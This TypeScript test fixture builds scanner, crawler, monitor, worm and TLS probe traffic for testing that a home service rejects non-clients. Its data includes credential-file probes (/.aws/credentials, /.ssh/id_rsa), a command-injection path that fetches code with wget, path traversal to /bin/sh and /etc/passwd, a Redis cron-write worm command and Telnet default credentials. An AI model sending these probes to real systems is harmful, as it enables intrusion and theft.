import { alpn, clientHello, name as serverName } from "../../firmware/src/net/hellos/testing.ts";

// Requests and probes that scanners, crawlers and monitors send to a port that they find, each with what it is: as these programs write them, put together
// from their parts. None of them is for the service behind the port: see `HOST` and `PATH`.

/** A connection of a program that is no client of the service. */
export interface Scan {
  readonly what: string;
  /** Characters are bytes. Empty: the connection is only opened. */
  readonly bytes: string;
}

/** The host and the path that a real client of the service asks for. */
export const HOST = "photos.home";
export const PATH = "/album";

/** The server name and the first line of its other clients. */
export const SERVER_NAME = "cloud.home";
export const FIRST_LINE = "HOT ";

const EXPLOITS: readonly string[] = [
  ..."/ /robots.txt /favicon.ico /sitemap.xml /.env /.env.bak /.git/config /.git/HEAD /.svn/entries /.DS_Store".split(
    " ",
  ),
  ..."/.aws/credentials /.ssh/id_rsa /.vscode/sftp.json /.well-known/security.txt /config.json /config.php".split(
    " ",
  ),
  ..."/wp-login.php /wp-admin/ /xmlrpc.php /wp-content/plugins/ /wp-json/wp/v2/users /administrator/ /admin".split(
    " ",
  ),
  ..."/phpmyadmin/ /pma/index.php /mysql/ /phpinfo.php /info.php /test.php /index.php?s=/Index/invokefunction".split(
    " ",
  ),
  ..."/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php /cgi-bin/luci /cgi-bin/../../../../bin/sh".split(
    " ",
  ),
  ..."/cgi-bin/%2e%2e/%2e%2e/%2e%2e/bin/sh /shell?cd+/tmp;wget+http://x/a /boaform/admin/formLogin".split(
    " ",
  ),
  ..."/HNAP1/ /setup.cgi?next_file=netgear.cfg /GponForm/diag_Form?images/ /manager/html /host-manager/html".split(
    " ",
  ),
  ..."/actuator/health /actuator/env /actuator/gateway/routes /jolokia/list /solr/admin/info/system /_cat/indices".split(
    " ",
  ),
  ..."/_all_dbs /_ignition/execute-solution /api/v1/pods /api/jsonws/invoke /owa/auth/logon.aspx /ecp/".split(
    " ",
  ),
  ..."/autodiscover/autodiscover.json /remote/login /dana-na/auth/url_default/welcome.cgi /vpn/index.html".split(
    " ",
  ),
  ..."/+CSCOE+/logon.html /global-protect/login.esp /sslmgr /login.action /confluence/ /jenkins/login".split(
    " ",
  ),
  ..."/hudson /script /console/ /geoserver/web/ /struts2-showcase/ /druid/index.html /nacos/ /swagger-ui.html".split(
    " ",
  ),
  ..."/v2/_catalog /containers/json /version /metrics /debug/pprof/ /server-status /telescope/requests /backup.zip".split(
    " ",
  ),
  ..."/db.sql /dump.sql /.htpasswd /web.config /SDK/webLanguage /ISAPI/Security/users /onvif/device_service".split(
    " ",
  ),
  ..."/stalker_portal/c/version.js /streaming/clients_live.php /ab2g /Portal/Portal.mwsl /evox/about /sdk".split(
    " ",
  ),
  ..."/nmaplowercheck1700000000 /NmapUpperCheck1700000000 /Trinity.txt.bak /.nmap/x /HNAP1 /evox/x".split(
    " ",
  ),
];

/** Scanners and crawlers: what they call themselves, and the Host that they send. */
const SCANNERS: readonly (readonly [agent: string, host: string])[] = [
  ["Mozilla/5.0 zgrab/0.x", "203.0.113.7"],
  ["Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)", "203.0.113.7:80"],
  ["masscan/1.3 (https://github.com/robertdavidgraham/masscan)", ""],
  ["Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "board"],
  ["Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "example.org"],
  ["python-requests/2.31.0", "192.168.1.50"],
  ["Go-http-client/1.1", "xphotos.home"],
  ["curl/7.88.1", "photos.home.evil.example"],
];

const CHECK_PATHS: readonly string[] = ["/", "/health", "/healthz", "/status", "/ping"];

/** Monitors and the checks of other balancers. */
const CHECKERS: readonly (readonly [method: string, agent: string])[] = [
  ["GET", "kube-probe/1.30"],
  ["GET", "ELB-HealthChecker/2.0"],
  ["GET", "GoogleHC/1.0"],
  ["GET", "Consul Health Check"],
  ["HEAD", "Uptime-Kuma/1.23.13"],
  ["HEAD", "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)"],
  ["GET", "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)"],
  ["GET", "check_http/v2.3.5 (monitoring-plugins 2.3.5)"],
  ["OPTIONS", ""],
  ["GET", "Blackbox Exporter/0.25.0"],
  ["GET", "Zabbix"],
  ["HEAD", "Site24x7"],
  ["GET", "StatusCake"],
  ["GET", "BetterUptime"],
  ["GET", "Wget"],
  ["HEAD", "curl/8.5.0"],
  ["GET", "HomeAssistant/2026.1 aiohttp/3.9"],
  ["GET", "Gatus/1.0"],
  ["GET", "Prometheus/2.53.0"],
  ["GET", "Traefik/health"],
];

function request(line: string, host: string, agent: string, more = ""): string {
  const fields = [host && `Host: ${host}`, agent && `User-Agent: ${agent}`, more];
  return `${[line, ...fields.filter(field => field !== "")].join("\r\n")}\r\n\r\n`;
}

function* exploits(): Generator<Scan> {
  for (const [agent, host] of SCANNERS) {
    for (const path of EXPLOITS) {
      const version = host === "" ? "1.0" : "1.1";
      yield {
        what: `${agent} looks for ${path}`,
        bytes: request(`GET ${path} HTTP/${version}`, host, agent),
      };
    }
  }
}

function* checks(): Generator<Scan> {
  for (const [method, agent] of CHECKERS) {
    for (const path of CHECK_PATHS) {
      const what = `a health check of ${agent || "HAProxy"}: ${method} ${path}`;
      const version = agent === "" ? "1.0" : "1.1";
      yield { what, bytes: request(`${method} ${path} HTTP/${version}`, "192.168.1.50", agent) };
    }
  }
}

/** Requests that come close to those of the service. */
function* nearMisses(): Generator<Scan> {
  const paths = [
    ...[
      "/",
      "/albums",
      "/Album",
      "/album%2f..%2fadmin",
      "/album/../admin",
      "/album/..;/admin",
      "/x/album",
    ],
    ...[
      "/album/..%2f..%2fetc/passwd",
      "/album/..\\admin",
      "/%61dmin?/album",
      "/album/%zz",
      "/;/album",
      "//",
    ],
  ];
  for (const path of paths) {
    yield {
      what: `${HOST} without ${PATH}: ${path}`,
      bytes: request(`GET ${path} HTTP/1.1`, HOST, "x"),
    };
  }
  for (const method of ["HEAD", "OPTIONS", "PUT", "DELETE", "PROPFIND", "get"]) {
    yield {
      what: `${method} of a monitor that knows the path`,
      bytes: request(`${method} ${PATH} HTTP/1.1`, HOST, "x"),
    };
  }
  for (const host of ["", "home", "photos", `a.${HOST}`, "photos-home", "[::1]"]) {
    yield {
      what: `${PATH} of the host "${host}"`,
      bytes: request(`GET ${PATH} HTTP/1.1`, host, "x"),
    };
  }
}

/** Requests that are none of HTTP/1.1, or ask for a proxy. */
function* odd(): Generator<Scan> {
  const lines = [
    "GET http://azenv.net/ HTTP/1.1",
    "GET http://www.google.com/ HTTP/1.0",
    "CONNECT www.google.com:443 HTTP/1.1",
    "TRACE / HTTP/1.1",
    "OPTIONS * HTTP/1.1",
    "PRI * HTTP/2.0",
    "GET / HTTP/9.8",
    "GET /",
    "FOO / HTTP/1.1",
    "DESCRIBE rtsp://board/live RTSP/1.0",
    "OPTIONS / RTSP/1.0",
    "OPTIONS sip:nm SIP/2.0",
    "M-SEARCH * HTTP/1.1",
    "NOTIFY * HTTP/1.1",
    "POST /RPC2 HTTP/1.1",
    "POST /sdk HTTP/1.1",
    "SSTP_DUPLEX_POST /sra_{BA195980-CD49-458b-9E23-C84EE0ADCD75}/ HTTP/1.1",
    "RDG_OUT_DATA /remoteDesktopGateway/ HTTP/1.1",
  ];
  for (const line of lines) {
    const host = line.includes("azenv")
      ? "azenv.net"
      : line.includes("google")
        ? "www.google.com"
        : "board";
    yield { what: `an odd request: ${line}`, bytes: request(line, host, "") };
  }
}

/** Probes of Nmap, masscan, zgrab and worms for other protocols. */
const PROBES: readonly (readonly [what: string, bytes: string])[] = [
  ["a connection and nothing more", ""],
  ["Nmap's GenericLines", "\r\n\r\n"],
  ["Nmap's Help", "HELP\r\n"],
  ["Nmap's RPCCheck", "\x80\0\0\x28\x72\xfe\x1d\x13\0\0\0\0\0\0\0\x02\0\x01\x86\xa0"],
  [
    "Nmap's DNSVersionBindReq",
    "\0\x1e\0\x06\x01\0\0\x01\0\0\0\0\0\0\x07version\x04bind\0\0\x10\0\x03",
  ],
  ["Nmap's SMBProgNeg", "\0\0\0\xa4\xffSMBr\0\0\0\0\x08\x01\x40"],
  ["Nmap's X11Probe", "l\0\x0b\0\0\0\0\0\0\0\0\0"],
  ["Nmap's LPDString", "\x01default\n"],
  ["Nmap's LDAPSearchReq", "0\x84\0\0\0\x2d\x02\x01\x07c\x84\0\0\0\x24"],
  [
    "Nmap's TerminalServerCookie",
    "\x03\0\0*%\xe0\0\0\0\0\0Cookie: mstshash=nmap\r\n\x01\0\x08\0\x03\0\0\0",
  ],
  ["a scanner for remote desktops", "\x03\0\0\x13\x0e\xe0\0\0\0\0\0\x01\0\x08\0\x03\0\0\0"],
  ["Nmap's JavaRMI", "JRMI\0\x02K"],
  ["Nmap's kumo-server", "\x94\0\0\0\0"],
  ["a scanner for MQTT", "\x10\x0c\0\x04MQTT\x04\x02\0\x3c\0\0"],
  ["a scanner for Redis", "*1\r\n$4\r\nPING\r\n"],
  ["a worm for Redis", "CONFIG SET dir /var/spool/cron/\r\n"],
  ["a scanner for memcached", "stats\r\n"],
  ["a scanner for MongoDB", "\x3f\0\0\0\x7e\0\0\0\0\0\0\0\xd4\x07\0\0\0\0\0\0admin.$cmd\0"],
  ["a scanner for PostgreSQL", "\0\0\0\x08\x04\xd2\x16\x2f"],
  ["a scanner for SSH, in Go", "SSH-2.0-Go\r\n"],
  ["a worm for SSH", "SSH-2.0-libssh_0.9.6\r\n"],
  ["a scanner for SSH", "SSH-2.0-OpenSSH_7.4\r\n"],
  ["a scanner for ADB", "CNXN\0\0\0\x01\0\0\x10\0\x07\0\0\0\x32\x02\0\0\xbc\xb1\xa7\xb1host::\0"],
  ["a scanner for Minecraft", "\x10\0\x00\x04home\x63\xdd\x01\x01\0"],
  ["a worm for Telnet", "root\r\nxc3511\r\n"],
  ["a worm for Telnet", "enable\r\nsystem\r\nshell\r\nsh\r\n"],
  ["a mailer", "EHLO mail.example.org\r\n"],
  ["a client of IMAP", "a001 CAPABILITY\r\n"],
  ["a client of POP3", "CAPA\r\n"],
  ["a client of FTP", "USER anonymous\r\n"],
  ["a client of IRC", "NICK x\r\nUSER x 0 * :x\r\n"],
  ["a SOCKS 4 proxy is looked for", "\x04\x01\0\x50\x01\x02\x03\x04\0"],
  ["a SOCKS 5 proxy is looked for", "\x05\x02\0\x02"],
  ["a client of the PROXY protocol", "PROXY TCP4 1.2.3.4 5.6.7.8 1 80\r\n"],
  ["a scanner for Tor", "\0\0\x07\0\x08\0\x03\0\x04\0\x05"],
  ["a scanner for Bitcoin", "\xf9\xbe\xb4\xd9version\0\0\0\0\0"],
  ["a scanner for Modbus", "\0\0\0\0\0\x05\0\x2b\x0e\x01\0"],
  [
    "a scanner for S7",
    "\x03\0\0\x16\x11\xe0\0\0\0\x01\0\xc1\x02\x01\0\xc2\x02\x01\x02\xc0\x01\x09",
  ],
  ["a scanner for BACnet", "\x81\x0a\0\x11\x01\x04\0\x05\x01\x0c"],
  ["a scanner for DICOM", "\x01\0\0\0\0\xcd\0\x01\0\0ANY-SCP"],
  ["a fuzzer", "\xff\xfe\xfd\xfc"],
  ["a client that stops within a head", "GET / HTTP/1.1\r\nHost: "],
  ["a TLS record without a hello", "\x15\x03\x01\0\x02\x02\x28"],
  ["a hello of SSL 2", "\x80\x2e\x01\0\x02\0\x15\0\0\0\x10"],
  ["a client that nearly speaks the protocol", "HOTEL\r\n"],
  ["a client that nearly speaks the protocol", " HOT x\r\n"],
  ["a client that nearly speaks the protocol", "hot x\r\n"],
];

function* probes(): Generator<Scan> {
  for (const [what, bytes] of PROBES) yield { what, bytes };
}

function* hellos(): Generator<Scan> {
  const names = [
    ...[
      "",
      "localhost",
      "www.google.com",
      "example.org",
      "203.0.113.7",
      "home",
      "xcloud.home",
      "cloud.home.evil.example",
    ],
    ...[
      "a.cloud.home",
      "cloud-home",
      HOST,
      "mail.example.org",
      "autodiscover.example.org",
      "vpn.example.org",
      "cdn.example.org",
    ],
  ];
  for (const name of names) {
    for (const protocols of [[], ["http/1.1"], ["h2", "http/1.1"]]) {
      const extensions = [name && serverName(name), protocols.length > 0 && alpn(...protocols)];
      const hello = clientHello(...extensions.filter(extension => Array.isArray(extension)));
      const what = `a hello of a TLS scanner for ${name || "no name"}, ${protocols.join() || "without ALPN"}`;
      yield { what, bytes: Buffer.from(hello).toString("latin1") };
    }
  }
}

/** A number of scans, all different: requests for exploits are as many as it takes. */
export function scans(count: number): Scan[] {
  const others = [...nearMisses(), ...checks(), ...odd(), ...probes(), ...hellos()];
  const all = [...others, ...exploits()].slice(0, count);
  if (new Set(all.map(({ bytes }) => bytes)).size !== count)
    throw new Error(`there are not ${count} different scans`);
  return all;
}
